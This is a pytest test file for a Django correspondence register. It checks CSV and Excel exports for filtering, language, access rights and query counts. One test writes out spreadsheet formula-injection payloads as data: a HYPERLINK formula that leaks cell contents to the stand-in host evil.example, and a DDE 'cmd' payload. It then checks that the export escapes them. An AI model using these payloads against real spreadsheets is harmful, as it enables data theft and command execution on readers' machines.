"""CSV and Excel export of the filtered correspondence list: rows, languages, formula injection, rights, queries."""

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from council.models import Person
from secretariat.models import Correspondence, ReferenceCounter
from tests.factories import ExchangeFactory
from tests.fixtures.correspondence import log_letter, seoul_time
from tests.teams.test_transfer_export import assert_export_refused

LIST_URL = reverse("secretariat:correspondence-list")
CSV_URL = reverse("secretariat:correspondence-export-csv")
XLSX_URL = reverse("secretariat:correspondence-export-xlsx")
HEADER_EN = [
    "Reference",
    "Time in Seoul",
    "Time in Beijing",
    "From",
    "To",
    "Channel",
    "Subject",
    "Summary",
    "People on each side",
    "Team concerned",
    "Related exchange",
    "Related assembly",
    "In reply to",
    "Reason for withdrawing",
]


def read_csv(response) -> list[list[str]]:
    body = b"".join(response.streaming_content)
    assert body.startswith("\ufeff".encode())  # the byte-order mark Excel needs to read UTF-8
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def read_xlsx(response) -> list[list]:
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def signed_in(client, demo_user, username: str, language: str = "en"):
    user = demo_user(username)
    user.person.preferred_language = language
    user.person.save()
    client.force_login(user)
    return user


@pytest.fixture
def exported(economy, culture, held_assembly) -> dict[str, Correspondence]:
    Correspondence.objects.all().delete()
    ReferenceCounter.objects.all().delete()
    council = economy.council
    exchange = ExchangeFactory(team=economy, title="Investment forum 2024")
    kim, zhang = Person.objects.get(name_romanised="Kim Ji-young"), Person.objects.get(name_romanised="Zhang Wei")
    invitation = log_letter(
        council, subject="Forum invitation", summary="Dates and programme.\nReply by May.",
        sent_at=seoul_time(2024, 3, 1, 10, 0), team=economy, exchange=exchange, people=[kim, zhang],
    )  # fmt: skip
    answer = log_letter(
        council, sender="BJS", receiver="SEL", channel="email", subject="Re: Forum invitation",
        sent_at=seoul_time(2024, 3, 4, 16, 30), team=economy, in_reply_to=invitation, assembly=held_assembly,
    )  # fmt: skip
    other = log_letter(council, subject="Opera tour", sent_at=seoul_time(2024, 5, 1, 9, 0), team=culture)
    return {"invitation": invitation, "answer": answer, "other": other}


def test_csv_export_is_exactly_the_filtered_list(client, demo_user, exported, held_assembly):
    signed_in(client, demo_user, "secretariat-seoul")

    response = client.get(CSV_URL, {"q": "forum", "ordering": "reference"})

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="correspondence-')
    assert read_csv(response) == [
        HEADER_EN,
        ["SEL-BJS-2024-001", "2024-03-01 10:00", "2024-03-01 09:00", "Seoul", "Beijing", "Official letter"]
        + [
            "Forum invitation",
            "Dates and programme.\nReply by May.",
            "김지영 (Kim Ji-young) (SEL)\n张伟 (Zhang Wei) (BJS)",
        ]
        + ["Economy team", "Investment forum 2024", "", "", ""],
        ["BJS-SEL-2024-002", "2024-03-04 16:30", "2024-03-04 15:30", "Beijing", "Seoul", "E-mail"]
        + ["Re: Forum invitation", "", "", "Economy team", "", str(held_assembly), "SEL-BJS-2024-001", ""],
    ]


def test_xlsx_export_is_exactly_the_filtered_list(client, demo_user, exported, economy):
    signed_in(client, demo_user, "mayor-office-beijing")

    response = client.get(XLSX_URL, {"team": economy.pk, "channel": "letter"})

    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"].endswith('.xlsx"')
    assert read_xlsx(response) == [
        HEADER_EN,
        ["SEL-BJS-2024-001", dt.datetime(2024, 3, 1, 10, 0), dt.datetime(2024, 3, 1, 9, 0)]  # noqa: DTZ001
        + ["Seoul", "Beijing", "Official letter", "Forum invitation", "Dates and programme.\nReply by May."]
        + ["김지영 (Kim Ji-young) (SEL)\n张伟 (Zhang Wei) (BJS)", "Economy team", "Investment forum 2024", None, None]
        + [None],
    ]
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    assert ([cell.font.b for cell in sheet[1]][:2], sheet.freeze_panes) == ([True, True], "A2")
    assert (sheet["B2"].number_format, sheet.column_dimensions["A"].width) == ("yyyy-mm-dd hh:mm", 22)


def test_export_speaks_the_readers_language(client, demo_user, exported):
    signed_in(client, demo_user, "secretariat-seoul", language="ko")

    rows = read_csv(client.get(CSV_URL, {"q": "Opera"}))

    with translation.override("ko"):
        time_in_seoul = translation.gettext("Time in %(city)s") % {"city": "서울"}
        letter = str(Correspondence.Channel.LETTER.label)
    assert len(rows) == 2
    assert rows[0][1] == time_in_seoul
    assert (rows[1][3], rows[1][4], rows[1][5], rows[1][9]) == ("서울", "베이징", letter, "문화팀")


FORMULAS = {
    "subject": '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "summary": "+1+cmd|' /C calc'!A0",
}


def test_exports_neutralise_formulas(client, demo_user, economy):
    log_letter(economy.council, team=economy, sent_at=seoul_time(2024, 6, 1, 9, 0), **FORMULAS)
    signed_in(client, demo_user, "secretariat-seoul")

    row = dict(zip(*read_csv(client.get(CSV_URL, {"q": "HYPERLINK"})), strict=True))
    assert (row["Subject"], row["Summary"]) == (
        """'=HYPERLINK("http://evil.example/?leak="&A1,"Open")""",
        "'+1+cmd|' /C calc'!A0",
    )
    sheet = load_workbook(io.BytesIO(client.get(XLSX_URL, {"q": "HYPERLINK"}).content)).worksheets[0]
    assert (sheet["G2"].value, sheet["G2"].data_type) == (
        """'=HYPERLINK("http://evil.example/?leak="&A1,"Open")""",
        "s",
    )
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_a_team_lead_exports_only_their_teams_letters(client, demo_user, exported):
    signed_in(client, demo_user, "lead-culture-beijing")

    rows = read_csv(client.get(CSV_URL))

    assert [row[6] for row in rows[1:]] == ["Opera tour"]


@pytest.mark.parametrize("url", [CSV_URL, XLSX_URL])
@pytest.mark.parametrize("username", ["admin", "member-economy-seoul"])
def test_members_and_administrators_may_not_export(client, demo_user, url, username):
    client.force_login(demo_user(username))
    assert client.get(url).status_code == 403


@pytest.mark.parametrize("url", [CSV_URL, XLSX_URL])
@pytest.mark.parametrize(
    "query", [{"team": "abc"}, {"sent_from": "someday"}, {"direction": "x"}, {"channel": "zz"}, {"q": "\x00"}]
)
def test_a_filter_with_a_mistake_exports_nothing_and_shows_the_list_with_it(client, demo_user, url, query):
    """Ignored, the filter would export the whole list as if it were the one asked for."""
    signed_in(client, demo_user, "secretariat-seoul", "ko")

    assert_export_refused(client, url, query, LIST_URL)


def _letters_with_people(economy, count: int) -> None:
    Correspondence.objects.all().delete()
    people = list(Person.objects.filter(council=economy.council)[:3])
    for n in range(count):
        log_letter(
            economy.council,
            subject=f"Letter {n}",
            sent_at=seoul_time(2024, 2, 1, 9, 0) + dt.timedelta(days=n),
            team=economy,
            people=people,
        )


@pytest.mark.parametrize("rows", [1, 30])
def test_csv_export_query_count_is_constant(client, demo_user, django_assert_num_queries, economy, rows):
    _letters_with_people(economy, rows)
    signed_in(client, demo_user, "lead-economy-seoul")

    # session, user, person, roles; member cities; the letters with their cities, team, exchange,
    # assembly and original; their people with their cities; the versions of their texts (these letters
    # name no exchange, so none for exchanges' titles)
    with django_assert_num_queries(8):
        lines = read_csv(client.get(CSV_URL))

    assert len(lines) == 1 + rows


@pytest.mark.parametrize("rows", [1, 30])
def test_xlsx_export_query_count_is_constant(client, demo_user, django_assert_num_queries, economy, rows):
    _letters_with_people(economy, rows)
    signed_in(client, demo_user, "lead-economy-seoul")

    with django_assert_num_queries(8):
        response = client.get(XLSX_URL)

    assert len(read_xlsx(response)) == 1 + rows
